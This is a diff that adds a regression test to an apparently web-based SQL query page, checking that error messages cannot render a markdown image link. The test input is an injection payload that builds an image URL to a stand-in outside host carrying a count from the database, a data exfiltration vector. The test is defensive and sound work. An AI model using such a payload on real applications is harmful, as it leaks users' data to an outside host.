@@ -81,3 +81,12 @@ def test_no_rows(environments: Environments, monkeypatch: pytest.MonkeyPatch) ->
     app = visit(monkeypatch, environments["full"], "sql", sql="SELECT * FROM run WHERE false")
     assert not app.exception
     assert "0 rows, " in words(app)
+
+
+def test_an_error_cannot_carry_results_elsewhere(environments: Environments, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A link whose query fails with an image's address in its message would fetch it, results and all."""
+    asked = "SELECT error('![x](http://elsewhere.example/?q=' || (SELECT count(*) FROM run) || ')')"
+    app = visit(monkeypatch, environments["full"], "sql", sql=asked)
+    assert "elsewhere.example" in app.error[0].value
+    assert "![" not in app.error[0].value
+    assert "](" not in app.error[0].value
